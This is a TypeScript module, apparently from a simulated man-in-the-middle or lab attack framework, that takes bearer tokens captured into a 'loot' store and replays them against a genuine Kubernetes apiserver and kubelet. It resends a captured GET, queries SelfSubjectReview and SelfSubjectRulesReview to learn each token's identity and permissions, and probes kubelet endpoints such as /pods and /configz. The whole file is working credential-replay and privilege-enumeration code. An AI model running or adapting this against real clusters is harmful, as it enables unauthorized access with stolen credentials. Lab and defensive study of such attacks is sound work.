import { text } from 'node:stream/consumers';
import type { Endpoint, Host } from '../network/network';
import { exchange } from '../network/transport';
import { type HeaderList, headerValue } from '../wire/http-head';
import { GenuineEndpoint } from './genuine';
import type { LootBag, LootRequest } from './loot';
import { OpenSockets } from './open-sockets';

/** What one captured bearer token was good for, as the genuine server itself said. */
export interface Replay {
  /** The captured request that was sent again with it, and the status; null when none was worth it. */
  readonly request: string | null;
  /** Of the answer; 0 when there was none. */
  readonly status: number;
  /** Whom the server takes the bearer for (SelfSubjectReview); null when it does not say. */
  readonly identity: string | null;
  /** What the server says he may do (SelfSubjectRulesReview), or, of a kubelet, which endpoints it opened to him. */
  readonly allowed: readonly string[];
}

/** A token that the server knows nothing of gets 401, one that may not do this 403: with both, nothing was gained. */
export function replayWorked({ status, identity, allowed }: Replay): boolean {
  return (status >= 200 && status < 300) || identity !== null || allowed.length > 0;
}

const TIMEOUT_MS = 5_000;
const REVIEW = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
const NAMESPACES = ['default', 'kube-system'];
/** Of a kubelet, from the harmless to the worst that a GET can open. */
const KUBELET_ENDPOINTS = ['/metrics', '/stats/summary', '/pods', '/configz'];

/**
 * Goes to the genuine server with every token in the loot, from the attacker's own machine and with no certificate: sends
 * a captured request again, then asks the apiserver who it is and what it may do. What it is answered goes into the loot.
 */
export async function replayTokens(
  host: Host,
  servers: { readonly genuine: Endpoint; readonly apiserver: Endpoint },
  loot: LootBag,
): Promise<void> {
  for (const [index, { value }] of loot.credentials.entries()) {
    loot.replays.push(await replayToken(host, servers, value, loot, `replay-${index}`));
  }
}

async function replayToken(
  host: Host,
  { genuine, apiserver }: { readonly genuine: Endpoint; readonly apiserver: Endpoint },
  token: string,
  loot: LootBag,
  lane: string,
): Promise<Replay> {
  const ask = async (method: string, path: string, body?: object) => {
    const at = body === undefined ? genuine : apiserver;
    const answer = await askServer(host, at, { method, path, token, ...(body && { body }) });
    host.timeline.record(host.name, null, 'credential-replayed', { method, path, status: answer.status });
    return answer;
  };
  const captured = loot.requests.find(
    (it) => it.method === 'GET' && carries(it.headers, token) && !isWatch(it),
  );
  const again = captured === undefined ? null : await ask('GET', captured.path);
  if (again !== null) {
    loot.keep('down', lane, Buffer.from(again.text));
    loot.noteAnswer(again.status).addText(Buffer.from(again.text));
  }
  const identity = usernameOf((await ask('POST', REVIEW, selfSubjectReview)).text);
  const allowed: string[] = [];
  if (genuine.port !== apiserver.port || genuine.address !== apiserver.address) {
    for (const path of KUBELET_ENDPOINTS) {
      const { status } = await ask('GET', path);
      if (status >= 200 && status < 300) allowed.push(`get ${path} of the kubelet`);
    }
  }
  if (identity !== null) {
    for (const namespace of NAMESPACES) {
      const { text: rules } = await ask('POST', RULES, rulesReview(namespace));
      allowed.push(...rulesOf(rules).filter((rule) => !allowed.includes(rule)));
    }
  }
  return {
    request: captured === undefined ? null : `GET ${captured.path}`,
    status: again?.status ?? 0,
    identity,
    allowed,
  };
}

const selfSubjectReview = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' };

function rulesReview(namespace: string): object {
  return { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace } };
}

function carries(headers: HeaderList, token: string): boolean {
  return headerValue(headers, 'authorization')?.endsWith(token) ?? false;
}

/** It would never end. */
function isWatch({ path }: LootRequest): boolean {
  return /[?&]watch=(?:true|1)/.test(path);
}

interface Question {
  readonly method: string;
  readonly path: string;
  readonly token: string;
  readonly body?: object;
}

async function askServer(
  host: Host,
  at: Endpoint,
  { method, path, token, body }: Question,
): Promise<{ readonly status: number; readonly text: string }> {
  const held = new OpenSockets();
  try {
    const peer = await new GenuineEndpoint(host, at, held).reach({ kind: 'tls', alpn: [] });
    if (peer.kind === 'refusal') return { status: 0, text: peer.text };
    const content = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
    const answer = await exchange(
      peer,
      {
        method,
        path,
        headers: [
          ['Host', `${at.address}:${at.port}`],
          ['Authorization', `Bearer ${token}`],
          ['Accept', 'application/json'],
          ...(content === undefined
            ? []
            : ([
                ['Content-Type', 'application/json'],
                ['Content-Length', String(content.length)],
              ] as const)),
        ],
        ...(content === undefined ? {} : { body: content }),
      },
      AbortSignal.timeout(TIMEOUT_MS),
    );
    if (answer.kind === 'refusal') return { status: 0, text: answer.text };
    if (answer.kind === 'upgraded') return { status: answer.status, text: '' };
    return { status: answer.status, text: await text(answer.body).catch(() => '') };
  } finally {
    await held.close();
  }
}

function usernameOf(answer: string): string | null {
  const review = parse(answer) as { status?: { userInfo?: { username?: unknown } } } | null;
  const username = review?.status?.userInfo?.username;
  return typeof username === 'string' && username !== 'system:anonymous' ? username : null;
}

interface ResourceRule {
  readonly verbs?: readonly string[];
  readonly resources?: readonly string[];
  readonly resourceNames?: readonly string[];
}

/** As `kubectl auth can-i --list` puts it together, without what everybody may: the reviews of oneself. */
function rulesOf(answer: string): string[] {
  const review = parse(answer) as { status?: { resourceRules?: readonly ResourceRule[] } } | null;
  return (review?.status?.resourceRules ?? [])
    .filter(({ resources = [] }) => !resources.every((it) => it.startsWith('selfsubject')))
    .map(({ verbs = [], resources = [], resourceNames = [] }) => {
      const names = resourceNames.length === 0 ? '' : ` ${resourceNames.join(',')}`;
      return `${verbs.join(',')} ${resources.join(',')}${names}`;
    });
}

function parse(json: string): unknown {
  try {
    return JSON.parse(json);
  } catch {
    return null;
  }
}
